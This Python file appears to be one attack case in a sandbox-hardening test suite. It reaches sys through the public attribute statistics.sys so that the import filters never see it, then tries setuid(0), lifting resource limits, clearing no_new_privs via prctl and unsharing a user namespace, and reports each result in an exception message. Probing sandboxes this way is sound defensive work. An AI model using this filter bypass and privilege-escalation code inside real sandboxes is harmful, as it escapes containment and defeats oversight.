"""ATTACK: undo the lockdown from inside: setuid(0)/setgid(0), raise RLIMIT_NOFILE/NPROC/
FSIZE/AS back to unlimited, clear no_new_privs and make the process dumpable with prctl,
unshare a user namespace (where it would be "root" again). The results go into the failure
reason."""

import statistics

# statistics.sys is a public attribute, so the static filter sees no forbidden import or name
# and the runtime import guard is never asked: both in-process filters are bypassed.
_sys = statistics.sys
ctypes = _sys.modules["ctypes"]
os = _sys.modules["os"]
resource = _sys.modules["resource"]

_report = []
for _name, _call in (
    ("setuid0", lambda: os.setuid(0)),
    ("setgid0", lambda: os.setgid(0)),
    ("setgroups", lambda: os.setgroups([0])),
    ("nofile", lambda: resource.setrlimit(resource.RLIMIT_NOFILE, (4096, 4096))),
    ("nproc", lambda: resource.setrlimit(resource.RLIMIT_NPROC, (resource.RLIM_INFINITY,) * 2)),
    ("fsize", lambda: resource.setrlimit(resource.RLIMIT_FSIZE, (resource.RLIM_INFINITY,) * 2)),
    ("as", lambda: resource.setrlimit(resource.RLIMIT_AS, (resource.RLIM_INFINITY,) * 2)),
):
    try:
        _call()
        _report.append(f"{_name} OK")
    except BaseException as e:
        _report.append(f"{_name}:{repr(e).partition('(')[0]}")
try:
    _libc = ctypes.CDLL(None, use_errno=True)
    for _name, _args in (("no_new_privs=0", (38, 0)), ("dumpable=1", (4, 1)), ("seccomp_mode", (21, 0))):
        _report.append(f"prctl {_name}={_libc.prctl(*_args, 0, 0, 0)}/errno {ctypes.get_errno()}")
    _report.append(f"unshare(NEWUSER|NEWNS)={_libc.unshare(0x10000000 | 0x20000)}/errno {ctypes.get_errno()}")
except BaseException as e:
    _report.append(f"ctypes:{repr(e).partition('(')[0]}")
_report.append(f"uid={os.getuid()} euid={os.geteuid()}")


def policy(obs):
    raise RuntimeError("; ".join(_report))
